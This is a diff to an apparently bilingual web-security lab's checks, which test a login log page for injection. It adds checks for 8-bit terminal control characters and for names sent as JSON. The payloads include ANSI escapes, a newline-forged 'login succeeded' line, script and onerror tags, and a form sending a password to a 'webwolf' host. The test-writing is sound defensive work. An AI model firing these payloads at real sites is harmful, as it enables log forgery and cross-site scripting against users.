@@ -1,79 +1,18 @@
-import type { Client } from '../../../src/features/web-lab/core/client';
 import type { Exchange } from '../../../src/features/web-lab/core/http';
 import { inertHtml } from '../../../src/features/web-lab/core/inertHtml';
-import { defineChecks, type Failure, type Trial } from '../../../src/features/web-lab/core/lab';
+import { defineChecks } from '../../../src/features/web-lab/core/lab';
 import { failUnlessShown, failure } from '../../../src/features/web-lab/core/probe';
+import { attempt, failIfMarkup, failIfRaw, failIfSeen, logged, reader } from './attempts';
 import { mistakes } from './mistakes';
-import { isMarkup, seenLines } from './seenLines';
+import { seenLines } from './seenLines';
 import { world, type Facts } from './world';
 
 const forgedFor = (admin: string) => `2026-03-02T09:14:07.000Z login succeeded for ${admin}`;
 
-/** A client that has logged in and may read the log. */
-async function reader({ client: newClient, facts: { own } }: Trial<Facts>): Promise<Client> {
-  const client = newClient();
-  await client.submit('/login', own);
-  return client;
-}
-
-const attempt = (client: Client, account: string) =>
-  client.send('POST', '/login', { form: { account, password: 'x' } });
-
-const logged = ({ events }: Exchange) => events.flatMap((event) => (event.type === 'log' ? [event.text] : []));
-
-/** Tries names; a failure if the log, as its file or as the server's own, contains one of the pieces as it was sent. */
-async function failIfRaw(
-  trial: Trial<Facts>,
-  attempts: readonly (readonly [account: string, piece: string])[],
-  why: readonly [vi: string, en: string],
-): Promise<Failure | undefined> {
-  const client = await reader(trial);
-  for (const [account, piece] of attempts) {
-    const sent = await attempt(trial.client(), account);
-    const file = await client.send('GET', '/log.txt');
-    if ([...logged(sent), file.response.body].some((text) => text.includes(piece))) return failure(sent, ...why);
-  }
-  return undefined;
-}
-
-/** Tries names; a failure if the page with the log then has a line of its own that begins with the forged text. */
-async function failIfSeen(
-  trial: Trial<Facts>,
-  accounts: readonly string[],
-  forged: string,
-): Promise<Failure | undefined> {
-  const client = await reader(trial);
-  for (const account of accounts) {
-    const sent = await attempt(trial.client(), account);
-    const page = await client.open('/log');
-    if (seenLines(page.response.body).some((line) => line.startsWith(forged)))
-      return failure(
-        sent,
-        `Sau yêu cầu này, trang nhật ký có một dòng riêng bắt đầu bằng “${forged}”.`,
-        `After this request, the page with the log has a line of its own that begins with “${forged}”.`,
-      );
-  }
-  return undefined;
-}
-
-async function failIfMarkup(
-  trial: Trial<Facts>,
-  textsWith: (name: string) => readonly string[],
-): Promise<Failure | undefined> {
-  const name = `k${trial.random.integer(10_000, 99_999)}`;
-  const client = await reader(trial);
-  for (const text of textsWith(name)) {
-    const sent = await attempt(trial.client(), text);
-    const page = await client.open('/log');
-    if (isMarkup(page.response.body, name))
-      return failure(
-        sent,
-        'Sau yêu cầu này, trang nhật ký chứa thẻ HTML do người lạ viết. Ai mở trang sẽ chạy nó.',
-        'After this request, the page with the log contains markup of a stranger. Whoever opens the page runs it.',
-      );
-  }
-  return undefined;
-}
+const CONTROL = [
+  'Sau yêu cầu này, nhật ký chứa ký tự điều khiển: terminal sẽ xóa, che hoặc dời chữ thay vì hiện nó.',
+  'After this request, the log contains control characters: a terminal deletes, hides or moves text instead of showing them.',
+] as const;
 
 const NEW_LINE = [
   'Sau yêu cầu này, tệp nhật ký hoặc nhật ký của máy chủ có thêm một dòng do người lạ viết.',
@@ -181,10 +120,18 @@ export const checks = defineChecks<Facts>({
           ['\u001b[1A\u001b[2K', '\u001b[8m', '\u001b]0;k\u0007', '\b\b\b\b\b\b', '\u000b', '\u000c'].map(
             (code) => [`x${code}kho`, `${code}kho`] as const,
           ),
-          [
-            'Sau yêu cầu này, nhật ký chứa ký tự điều khiển: terminal sẽ xóa, che hoặc dời chữ thay vì hiện nó.',
-            'After this request, the log contains control characters: a terminal deletes, hides or moves text instead of showing them.',
-          ],
+          CONTROL,
+        ),
+    },
+    {
+      id: 'terminal-8-bit',
+      kind: 'attack',
+      title: { vi: 'Ký tự điều khiển từ U+007F', en: 'Control characters from U+007F' },
+      run: (trial) =>
+        failIfRaw(
+          trial,
+          ['\u009b1A\u009b2K', '\u009d0;k\u009c', '\u0085'].map((code) => [`x${code}kho`, `${code}kho`] as const),
+          CONTROL,
         ),
     },
     {
@@ -238,6 +185,19 @@ export const checks = defineChecks<Facts>({
           `<a href="javascript:${name}()">x</a>`,
           `<form action="http://webwolf/${name}"><input name="password"></form>`,
         ]),
+    },
+    {
+      id: 'as-json',
+      kind: 'attack',
+      title: { vi: 'Cùng tên ấy, gửi bằng JSON', en: 'The same names, sent as JSON' },
+      async run(trial) {
+        const forged = forgedFor(trial.facts.admin);
+        return (
+          (await failIfRaw(trial, [[[`x\n${forged}`], `\n${forged}`]], NEW_LINE)) ??
+          (await failIfSeen(trial, [[`x\n${forged}`]], forged)) ??
+          (await failIfMarkup(trial, (name) => [[`<script>${name}()</script>`], [`<img src=x onerror=${name}()>`]]))
+        );
+      },
     },
     {
       id: 'names',
